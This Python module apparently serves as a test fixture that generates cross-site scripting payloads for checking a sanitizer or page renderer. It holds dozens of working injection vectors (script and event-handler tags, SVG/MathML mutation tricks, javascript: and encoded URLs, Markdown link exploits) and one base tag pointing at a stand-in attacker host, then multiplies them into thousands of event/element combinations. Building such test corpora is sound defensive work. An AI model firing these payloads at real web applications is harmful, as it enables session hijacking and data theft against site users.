"""Hostile texts: markup that would run a script if any of it got through, in shapes of our own making.

Every text calls `alert`, `confirm`, `prompt` or `print`, which a watched page reports. `all_payloads` makes thousands
(each event on each element, behind each way out of an attribute or element) and adds those of a file of the operator's
choice, one text a line, named by the environment variable XSS_PAYLOADS; public corpora are not ours to carry.
"""

from __future__ import annotations

import os
from collections.abc import Iterator
from pathlib import Path

WAYS_OUT = ("", '">', "'>", "</title>", "</script>", "-->", "</textarea>", "]]>", "`>", "</style>", "&quot;>", '\\">')

BODIES = (
    "<script>alert(1)</script>",
    "<ScRiPt/x>alert`1`</sCrIpT >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script src=data:,alert(1)></script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'onerror=alert(1)//",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>#x\">",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src=x>\">",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=\"data:text/html,<script>parent.alert(1)</script>\"></object>",
    "<embed src=javascript:alert(1)>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<style>@import 'javascript:alert(1)';*{background:url(javascript:alert(1))}</style>",
    "<div style=\"background:url(javascript:alert(1));animation:x\" onanimationstart=alert(1)>",
    "\" autofocus tabindex=1 onfocus=alert(1) x=\"",
    "' onmouseover=alert(1) x='",
    " onpointerenter=alert(1) ",
    "\"}]}</script><script>alert(1)</script>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=alert(1)\\x3e",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "{% import os %}{{ ''.__class__ }}<script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](x\"onerror=\"alert(1))",
    "![x][1]\n\n[1]: javascript:alert(1) \"onerror=alert(1)\"",
    "<javascript:alert(1)>",
    "<https://a.example/\" onmouseover=alert(1)>",
    "[a](<https://a.example/\"onmouseover=\"alert(1)>)",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "|a|\n|-|\n|<img src=x onerror=alert(1)>|",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href=javascript:alert(1)?>",
    "=HYPERLINK(\"javascript:alert(1)\")",
)  # fmt: skip

ELEMENTS = (
    "a", "audio", "b", "body", "button", "details", "dialog", "div", "form", "iframe", "img", "input", "marquee",
    "object", "select", "svg", "textarea", "video", "xss",
)  # fmt: skip
EVENTS = (
    "abort", "afterprint", "animationend", "animationstart", "auxclick", "beforecopy", "beforeinput", "beforeprint",
    "beforetoggle", "beforeunload", "blur", "canplay", "change", "click", "close", "contextmenu", "copy",
    "cuechange", "cut", "dblclick", "drag", "dragend", "dragenter", "dragstart", "drop", "durationchange", "ended",
    "error", "focus", "focusin", "formdata", "fullscreenchange", "gotpointercapture", "hashchange", "input",
    "invalid", "keydown", "keypress", "keyup", "load", "loadeddata", "loadedmetadata", "loadstart", "message",
    "mousedown", "mouseenter", "mousemove", "mouseover", "mouseup", "mousewheel", "pagehide", "pageshow", "paste",
    "pause", "play", "playing", "pointerdown", "pointerenter", "pointermove", "pointerover", "popstate", "progress",
    "ratechange", "reset", "resize", "scroll", "scrollend", "search", "seeked", "select", "selectionchange",
    "selectstart", "show", "stalled", "submit", "suspend", "timeupdate", "toggle", "touchstart", "transitionend",
    "unhandledrejection", "unload", "volumechange", "waiting", "wheel",
)  # fmt: skip
_CALLS = ("alert(1)", "confirm`1`", "(prompt)(1)", "print&#40;&#41;", "top['al'+'ert'](1)")
_EXTRA = {
    "img": "src=x ", "audio": "src=x ", "video": "src=x ", "iframe": "src=about:blank ", "object": "data=x ",
    "input": "autofocus ", "textarea": "autofocus ", "select": "autofocus ", "button": "autofocus ", "details": "open ",
    "a": "href=# autofocus tabindex=1 ", "xss": "contenteditable autofocus tabindex=1 ",
}  # fmt: skip


def few_payloads() -> list[str]:
    """One text of every shape, behind one of the ways out in turn."""
    return [WAYS_OUT[place % len(WAYS_OUT)] + body for place, body in enumerate(BODIES)]


def all_payloads() -> list[str]:
    """Every shape behind every way out, every event on every element, and the texts of the file in XSS_PAYLOADS."""
    return list(dict.fromkeys((*_foreign(), *(way + body for way in WAYS_OUT for body in BODIES), *_events())))


def _events() -> Iterator[str]:
    number = 0
    for event in EVENTS:
        for element in ELEMENTS:
            for quote in ("", '"', "'", "`"):
                way, call = WAYS_OUT[number % len(WAYS_OUT)], _CALLS[number % len(_CALLS)]
                number += 1
                yield f"{way}<{element} {_EXTRA.get(element, '')}on{event}={quote}{call}{quote}>"


def _foreign() -> list[str]:
    file = os.environ.get("XSS_PAYLOADS")
    return [] if file is None else Path(file).read_text(encoding="utf-8", errors="replace").splitlines()
